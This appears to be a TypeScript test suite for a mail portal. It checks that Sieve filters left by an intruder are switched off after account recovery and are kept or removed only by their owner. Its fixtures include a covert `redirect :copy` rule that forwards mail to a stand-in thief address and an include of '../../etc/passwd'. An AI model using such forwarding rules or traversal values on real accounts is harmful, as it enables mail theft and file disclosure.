// Held filters: switched off by every recovery, and kept or removed by their owner alone.
import assert from 'node:assert/strict'
import { randomUUID } from 'node:crypto'
import { describe, it } from 'node:test'
import { runCommand } from '#server/cli/portal.ts'
import { readWithIncluded } from '#server/mail/filters/hold-back.ts'
import { insertHeldFilter } from '#server/mail/filters/store.ts'
import { PlatformError, type PlatformFilters } from '#server/mail/mail-platform/mail-platform.ts'
import { createMemoryPlatform } from '#server/mail/mail-platform/memory/memory.ts'
import { enrolStaff, enterStaff } from '#test/support/desk/staff.ts'
import { arrive, signIn } from '#test/support/people.ts'
import { eventually, startTestPortal } from '#test/support/portal.ts'
import {
  begin,
  type Equipped,
  equip,
  forgetLimits,
  linkOf,
  proveByPhone,
  setPassword,
  undoLinkOf,
} from '#test/support/recovery/recovery.ts'
import { usePortal } from '#test/support/use-portal.ts'
import type { Answer, Visitor } from '#test/support/visitor.ts'

const page = '/account/filters'
const next = 'a password after the reset'
/** Blanks and line ends that no program writes by itself. */
const theft = {
  name: 'main',
  text: 'require "copy";\r\n\n  redirect :copy "thief@elsewhere.example";# ☂\n',
}

const platform = createMemoryPlatform()
const portal = usePortal({
  freshLimits: true,
  ports: { platform },
  env: { LIMIT_SMS_WAIT_SECONDS: '0.01' },
})

const settled = (mailbox: string) =>
  eventually(() =>
    portal
      .db('mailboxes')
      .where({ address: mailbox })
      .whereRaw('applied_revision >= revision')
      .first(),
  )
const active = async (mailbox: string) => {
  await settled(mailbox)
  return platform.activeFilterOf(mailbox)
}
const press = (visitor: Visitor, html: string, what: 'keep' | 'remove', nth = 0) => {
  const paths = [...html.matchAll(new RegExp(`action="(${page}/[0-9a-f-]{36}/${what})"`, 'g'))].map(
    ([, path]) => path,
  )
  return visitor.post(paths[nth] ?? assert.fail(`no button to ${what}`), {}, { from: page })
}
/** What the next page says was done, or why nothing was done. */
const flashOf = ({ headers }: Answer) =>
  /(?:^|-)done=([^;]*)/m.exec(headers.getSetCookie().join('\n'))?.[1]
const opposite = { keep: 'remove', remove: 'keep' } as const
const doneBy = { keep: 'kept', remove: 'removed' } as const
const eventsOf = (accountId: string) =>
  portal
    .db('activity')
    .where({ account_id: accountId })
    .where('event', 'like', 'filters.%')
    .orderBy('position')
    .pluck('event')

async function burgled(): Promise<Equipped> {
  const person = await equip(portal)
  await settled(person.mailbox)
  platform.putFilter(person.mailbox, theft)
  return person
}

async function proveByLink(person: Equipped): Promise<Visitor> {
  const visitor = await begin(portal, person.login)
  await visitor.get(await linkOf(portal, visitor, person))
  return visitor
}

/** A person after a reset, signed in with the new password. */
async function recovered(): Promise<{ person: Equipped; visitor: Visitor }> {
  const person = await burgled()
  assert.equal((await setPassword(await proveByPhone(portal, person), next)).status, 303)
  assert.equal(await active(person.mailbox), undefined)
  return { person, visitor: await signIn(portal, { login: person.login, password: next }) }
}

describe('a filter that a stranger left', () => {
  const ways: Record<string, (person: Equipped) => Promise<unknown>> = {
    'a reset by a code sent to the phone': async (person) =>
      setPassword(await proveByPhone(portal, person), next),
    'a reset by a link to the backup address': async (person) =>
      setPassword(await proveByLink(person), next),
    'a reset by the security question': async (person) => {
      const visitor = await begin(portal, person.login)
      await visitor.post('/recover/security-question', { answer: person.answer })
      await setPassword(visitor, next)
    },
    '“this was not me”': async (person) => {
      await person.browser.post('/account/password', { password: 'chosen by a stranger' })
      const link = await undoLinkOf(portal, person.address)
      assert.deepEqual(
        (await active(person.mailbox))?.name,
        'main',
        'a change by its owner leaves filters alone',
      )
      await portal.visitor().post(link, {}, { from: link })
    },
    'signing all other devices out': (person) =>
      person.browser.post('/account/sessions/end-others', {}, { from: '/account/password' }),
    'support that ends all sessions': async (person) => {
      const staff = await enrolStaff(portal, 'hilfe.eins', 'support')
      const visitor = await enterStaff(portal, staff)
      const account = `/staff/accounts/${person.accountId}`
      await visitor.post(`${account}/end-sessions`, {}, { from: account })
    },
    'an operator who ends all sessions': (person) => {
      return runCommand(['account', 'end-sessions', person.login], {
        DATABASE_URL: portal.database.url,
        SECRET_KEYS: portal.settings.secretKeys.join(),
      })
    },
  }

  async function endsBy(way: (person: Equipped) => Promise<unknown>): Promise<void> {
    const person = await burgled()
    const before = platform.calls.length
    await way(person)
    await eventually(async () => (await active(person.mailbox)) === undefined)
    const calls = platform.calls.slice(before).filter(({ address }) => address === person.mailbox)
    const order = calls.map(({ call }) => call)
    assert.ok(order.indexOf('endSessions') >= 0)
    const off = order.indexOf('filters.deactivate')
    assert.ok(order.lastIndexOf('endSessions', off) >= 0, order.join())
    assert.deepEqual(await eventsOf(person.accountId), ['filters.held'])
  }

  it('no filter survives a recovery or the end of all sessions by itself', async (t) => {
    for (const [name, way] of Object.entries(ways)) {
      await forgetLimits(portal)
      await t.test(name, () => endsBy(way))
    }
  })
})

describe('the page of filters', () => {
  it('the page shows where a held filter leads, and overview and activity mention it', async () => {
    const { person, visitor } = await recovered()
    assert.match(
      (await visitor.get('/account')).html,
      /Decide about your filters[\s\S]*href="\/account\/filters"/,
    )
    const shown = await visitor.get(page)
    assert.deepEqual([shown.status, shown.page], [200, 'filters'])
    assert.match(shown.html, /main[\s\S]*Switched off[\s\S]*Forwards a copy of emails to:/)
    assert.match(shown.html, /Forwards a copy of emails to:[\s\S]*thief<wbr>@elsewhere\.example/)
    assert.match(
      (await visitor.get('/account/activity')).html,
      /A filter was switched off until you keep or remove it/,
    )
    const row = await portal.db('held_filters').where({ account_id: person.accountId }).first()
    assert.ok(!JSON.stringify(row).includes('thief'), 'what a filter says is sealed')
  })

  it('the page says that no filter waits if none does', async () => {
    const { visitor } = await arrive(portal)
    assert.match((await visitor.get(page)).html, /No filter needs your decision/)
    assert.doesNotMatch((await visitor.get('/account')).html, /account\/filters/)
  })

  it('only its owner decides on a held filter, with a recent password', async () => {
    const { person, visitor } = await recovered()
    assert.equal(
      (await portal.visitor().get(page)).location,
      `/sign-in?next=${encodeURIComponent(page)}`,
    )
    const { html } = await visitor.get(page)
    const stranger = (await arrive(portal)).visitor
    const [, path = ''] = /action="([^"]+\/keep)"/.exec(html) ?? []
    const itsOwner = await portal.db('held_filters').where({ account_id: person.accountId })
    const before = await portal
      .db('mailboxes')
      .orderBy('account_id')
      .select('account_id', 'revision')
    for (const what of ['keep', 'remove']) {
      for (const asked of [
        path.replace('keep', what),
        `${page}/${randomUUID()}/${what}`,
        `${page}/nonsense/${what}`,
      ]) {
        const answer = await stranger.post(asked, {}, { from: '/account/password' })
        assert.deepEqual([answer.status, flashOf(answer)], [404, undefined], asked)
      }
    }
    assert.deepEqual(
      await portal.db('held_filters').where({ account_id: person.accountId }),
      itsOwner,
    )
    assert.deepEqual(
      await portal.db('mailboxes').orderBy('account_id').select('account_id', 'revision'),
      before,
    )
    portal.clock.advance(11 * 60_000)
    for (const what of ['keep', 'remove'] as const) {
      assert.match(
        (await press(visitor, html, what)).location ?? '',
        /^\/account\/confirm-password\?next=/,
      )
    }
    assert.equal(await active(person.mailbox), undefined)
    assert.equal(
      (await portal.db('held_filters').where({ account_id: person.accountId })).length,
      1,
    )
  })

  it('a kept filter works again byte for byte, once, even if kept twice', async () => {
    const { person, visitor } = await recovered()
    const { html } = await visitor.get(page)
    const answers = await Promise.all([press(visitor, html, 'keep'), press(visitor, html, 'keep')])
    assert.deepEqual(
      answers.map(({ status, location }) => [status, location]),
      [
        [303, page],
        [303, page],
      ],
    )
    assert.deepEqual(await active(person.mailbox), theft)
    assert.match((await visitor.get(page)).html, /No filter needs your decision/)
    assert.deepEqual(await eventsOf(person.accountId), ['filters.held', 'filters.kept'])
    assert.match(
      (await visitor.get('/account/activity')).html,
      /A filter was kept: it leads to 1 address/,
    )
  })

  it('a removed filter is deleted from the mailbox', async () => {
    const { person, visitor } = await recovered()
    assert.equal((await press(visitor, (await visitor.get(page)).html, 'remove')).location, page)
    await settled(person.mailbox)
    assert.deepEqual(await platform.filters?.list(person.mailbox), [])
    assert.equal(
      (await portal.db('held_filters').where({ account_id: person.accountId })).length,
      0,
    )
    assert.deepEqual(await eventsOf(person.accountId), ['filters.held', 'filters.removed'])
  })

  it('the page describes an included script, and says if an include is missing', async () => {
    const person = await burgled()
    await platform.filters?.write(person.mailbox, {
      name: 'quiet',
      text: 'redirect "hidden@elsewhere.example";',
    })
    const text = 'require "include"; include "quiet"; include "../../etc/passwd";'
    platform.putFilter(person.mailbox, { name: 'main', text })
    await person.browser.post('/account/sessions/end-others', {}, { from: '/account/password' })
    await settled(person.mailbox)
    const { html } = await person.browser.get(page)
    assert.match(html, /hidden<wbr>@elsewhere\.example[\s\S]*may do more than can be told here/)
    await press(person.browser, html, 'keep')
    assert.deepEqual(await active(person.mailbox), { name: 'main', text })
  })
})

describe('a decision on a filter', () => {
  async function contradict(first: 'keep' | 'remove'): Promise<void> {
    const second = opposite[first]
    const stands = `${doneBy[first]}-before`
    const result = first === 'keep' ? theft : undefined
    const { person, visitor } = await recovered()
    const { html } = await visitor.get(page)
    const flashAfter = async (what: typeof first) => flashOf(await press(visitor, html, what))

    await portal.stopWorker()
    try {
      assert.equal(await flashAfter(first), doneBy[first])
      assert.equal(await flashAfter(second), stands, 'before the platform knows')
      assert.equal(await flashAfter(first), doneBy[first])
    } finally {
      await portal.startWorker()
    }
    assert.deepEqual(await active(person.mailbox), result)
    const done = () => portal.db('settled_filters').where({ account_id: person.accountId }).first()
    assert.equal((await eventually(done)).decision, first)

    assert.equal(await flashAfter(second), stands, 'when it is done on the platform')
    const shown = (await visitor.get(page)).html
    assert.match(shown, new RegExp(`notice--warning.*already been ${doneBy[first]}`, 's'))
    assert.doesNotMatch(shown, /notice--success/)
    assert.equal(await flashAfter(first), doneBy[first], 'the same again is answered as the first')
    assert.deepEqual(await active(person.mailbox), result)
    const events = ['filters.held', `filters.${doneBy[first]}`]
    assert.deepEqual(await eventsOf(person.accountId), events)
  }

  it('an old page that contradicts a decision changes nothing and says so', async (t) => {
    for (const first of ['keep', 'remove'] as const) {
      await forgetLimits(portal)
      await t.test(`${first}, then ${opposite[first]}`, () => contradict(first))
    }
  })

  it('of two contradicting decisions at once, only one is reported as done', async () => {
    for (let nth = 0; nth < 8; nth += 1) {
      await forgetLimits(portal)
      const { person, visitor } = await recovered()
      const { html } = await visitor.get(page)
      const answers = await Promise.all([
        press(visitor, html, 'keep'),
        press(visitor, html, 'remove'),
      ])
      const [keep, remove] = answers.map(flashOf)
      assert.ok(
        (keep === 'kept' && remove === 'kept-before') ||
          (keep === 'removed-before' && remove === 'removed'),
        `${keep}, ${remove}`,
      )
      assert.deepEqual(await active(person.mailbox), keep === 'kept' ? theft : undefined)
      assert.deepEqual(await eventsOf(person.accountId), [
        'filters.held',
        `filters.${doneBy[keep === 'kept' ? 'keep' : 'remove']}`,
      ])
    }
  })

  it('a filter cannot be kept until it was read', async () => {
    const { person, visitor } = await recovered()
    const { html } = await visitor.get(page)
    const row = portal.db('held_filters').where({ account_id: person.accountId })
    await row.clone().update({ read_at: null })
    assert.equal(flashOf(await press(visitor, html, 'keep')), 'unread')
    assert.match((await visitor.get(page)).html, /what this filter does is still being read/)
    assert.equal((await row.clone().first()).decision, null)
    assert.equal(flashOf(await press(visitor, html, 'remove')), 'removed')
  })

  it('an unread filter is removed even if the same filter waits already', async () => {
    const { person, visitor } = await recovered()
    await portal.stopWorker()
    try {
      platform.putFilter(person.mailbox, theft)
      await visitor.post('/account/sessions/end-others', {}, { from: '/account/password' })
      const twin = { accountId: person.accountId, name: theft.name, at: portal.clock.now() }
      await portal.db.transaction((trx) => insertHeldFilter(trx, portal.keyring, twin))
      assert.equal(
        flashOf(await press(visitor, (await visitor.get(page)).html, 'remove')),
        'removed',
      )
    } finally {
      await portal.startWorker()
    }
    await settled(person.mailbox)
    assert.deepEqual(await platform.filters?.list(person.mailbox), [])
  })

  it('an old page decides nothing after all sessions have ended again', async () => {
    const { person, visitor } = await recovered()
    const { html } = await visitor.get(page)
    await press(visitor, html, 'keep')
    assert.deepEqual(await active(person.mailbox), theft)
    await visitor.post('/account/sessions/end-others', {}, { from: '/account/password' })
    assert.equal(await active(person.mailbox), undefined)
    for (const what of ['keep', 'remove'] as const)
      assert.equal((await press(visitor, html, what)).status, 404)
    assert.equal(await active(person.mailbox), undefined)
    assert.equal(
      (await portal.db('held_filters').where({ account_id: person.accountId, decision: null }))
        .length,
      1,
    )
  })

  it('a decision on a filter is remembered as long as a session can last', async () => {
    const { person, visitor } = await recovered()
    await press(visitor, (await visitor.get(page)).html, 'remove')
    const known = () => portal.db('settled_filters').where({ account_id: person.accountId }).first()
    const { settled_at } = await eventually(known)
    const cleanUp = () => portal.tasks['clean-up']?.({}, { attempt: 1, maxAttempts: 1 })
    await cleanUp()
    assert.ok(await known())
    const old = new Date(settled_at.getTime() - 12 * 3_600_000)
    await portal
      .db('settled_filters')
      .where({ account_id: person.accountId })
      .update({ settled_at: old })
    await cleanUp()
    assert.equal(await known(), undefined)
  })
})

describe('a script that names another', () => {
  it('an included script is read only if the mailbox lists it', async () => {
    const texts: Record<string, string> = {
      main: 'require "include"; include "quiet"; include "../../etc/passwd";',
      quiet: 'keep;',
      '../../etc/passwd': 'root:x:0:0',
    }
    const read: string[] = []
    const filters = {
      list: async () => [
        { name: 'main', active: true },
        { name: 'quiet', active: false },
      ],
      read: async (_: string, name: string) => {
        read.push(name)
        return texts[name]
      },
    }
    const scripts = await readWithIncluded(
      filters as unknown as PlatformFilters,
      'hanna.k@postern.example',
      'main',
    )
    assert.deepEqual(
      scripts.map(({ name }) => name),
      ['main', 'quiet'],
    )
    assert.deepEqual(read, ['main', 'quiet'])
  })
})

describe('a filter that waits', () => {
  it('a held filter does not replace one that its owner sets up afterwards', async () => {
    const { person, visitor } = await recovered()
    const own = { name: 'mine', text: 'redirect "sister@elsewhere.example";' }
    platform.putFilter(person.mailbox, own)
    await press(visitor, (await visitor.get(page)).html, 'remove')
    assert.deepEqual(await active(person.mailbox), own)
  })

  it('a held filter that was changed since is neither switched on nor overwritten', async () => {
    const { person, visitor } = await recovered()
    const own = { name: 'main', text: 'redirect "sister@elsewhere.example";' }
    platform.putFilter(person.mailbox, own)
    await press(visitor, (await visitor.get(page)).html, 'keep')
    assert.deepEqual(await active(person.mailbox), own)
    const { html } = await visitor.get(page)
    assert.match(html, /It was changed in your mailbox in the meantime/)
    await press(visitor, html, 'remove')
    assert.deepEqual(await active(person.mailbox), own)
  })

  it('a held filter that was deleted meanwhile is written again when it is kept', async () => {
    const { person, visitor } = await recovered()
    await platform.filters?.remove(person.mailbox, 'main')
    await press(visitor, (await visitor.get(page)).html, 'keep')
    assert.deepEqual(await active(person.mailbox), theft)
  })

  it('a held filter is not lost with an answer of the platform', async () => {
    const calls = ['list', 'deactivate', 'read', 'activate'] as const
    for (const call of calls) {
      const person = await burgled()
      if (call !== 'activate') platform.next(`filters.${call}`, { kind: 'lose-answer' })
      await setPassword(await proveByPhone(portal, person), next)
      assert.equal(await active(person.mailbox), undefined)
      const visitor = await signIn(portal, { login: person.login, password: next })
      if (call === 'activate')
        platform.next('filters.activate', { kind: 'lose-answer' }, { kind: 'twice' })
      await press(visitor, (await visitor.get(page)).html, 'keep')
      assert.deepEqual(await active(person.mailbox), theft, call)
      assert.deepEqual(await eventsOf(person.accountId), ['filters.held', 'filters.kept'], call)
    }
  })

  it('a filter waits once, even after a second reset', async () => {
    const { person } = await recovered()
    platform.putFilter(person.mailbox, theft)
    const again = 'yet another long password'
    assert.equal((await setPassword(await proveByLink(person), again)).status, 303)
    assert.equal(await active(person.mailbox), undefined)
    assert.equal(
      (await portal.db('held_filters').where({ account_id: person.accountId })).length,
      1,
    )
  })

  it('a decision to keep a filter ends with the next recovery', async () => {
    const { person, visitor } = await recovered()
    const { html } = await visitor.get(page)
    const reset = await proveByLink(person)
    await portal.stopWorker()
    try {
      await press(visitor, html, 'keep')
      assert.equal((await setPassword(reset, 'yet another long password')).status, 303)
    } finally {
      await portal.startWorker()
    }
    assert.equal(await active(person.mailbox), undefined)
    const rows = await portal.db('held_filters').where({ account_id: person.accountId })
    assert.deepEqual(
      rows.map(({ decision }) => decision),
      [null],
    )
  })

  it('held filters are sealed under the newest key after rekeying', async () => {
    const { person } = await recovered()
    const newest = 'a-newer-key-0123456789abcdefghijklmnop'
    const env = {
      DATABASE_URL: portal.database.url,
      SECRET_KEYS: [newest, ...portal.settings.secretKeys].join(),
    }
    const before = await portal.db('held_filters').where({ account_id: person.accountId }).first()
    assert.equal((await runCommand(['rekey'], env)).status, 0)
    const after = await portal.db('held_filters').where({ account_id: person.accountId }).first()
    const keyOf = (row: { filter_sealed: string }) => row.filter_sealed.split('.')[1]
    assert.notEqual(keyOf(after), keyOf(before))
    await portal
      .db('held_filters')
      .where({ account_id: person.accountId })
      .update({ filter_sealed: before.filter_sealed })
  })
})

describe('a mail platform', () => {
  it('a platform that cannot list filters switches them off all the same', async () => {
    const person = await burgled()
    const error = new PlatformError('permanent', 'doveadm refused the command: unAuthorized')
    platform.next('filters.list', { kind: 'fail', error })
    await setPassword(await proveByPhone(portal, person), next)
    await eventually(() =>
      portal
        .db('mailboxes')
        .where({ address: person.mailbox })
        .whereNotNull('needs_operator_at')
        .first(),
    )
    assert.equal(platform.activeFilterOf(person.mailbox), undefined)
    const visitor = await signIn(portal, { login: person.login, password: next })
    const { html } = await visitor.get('/account')
    assert.match(html, /Your new password has worked since/)
    assert.match((await visitor.get(page)).html, /filters of your mailbox are being switched off/)
  })

  it('pages say that filters cannot be reached until their owner has looked', async () => {
    const { filters: _, ...without } = createMemoryPlatform()
    const other = await startTestPortal({ ports: { platform: without } })
    try {
      const { visitor, accountId } = await arrive(other)
      assert.doesNotMatch((await visitor.get('/account')).html, /account\/filters/)
      await visitor.post('/account/sessions/end-others', {}, { from: '/account/password' })
      await eventually(() => other.db('unheld_filters').where({ account_id: accountId }).first())
      assert.match((await visitor.get('/account')).html, /Look at your forwarding and filters/)
      const { html } = await visitor.get(page)
      assert.match(html, /does not let us switch filters off[\s\S]*I have looked/)
      assert.equal((await visitor.post(`${page}/looked`, {}, { from: page })).location, page)
      assert.doesNotMatch((await visitor.get('/account')).html, /account\/filters/)
      assert.doesNotMatch((await visitor.get(page)).html, /I have looked/)
    } finally {
      await other.stop()
    }
  })
})
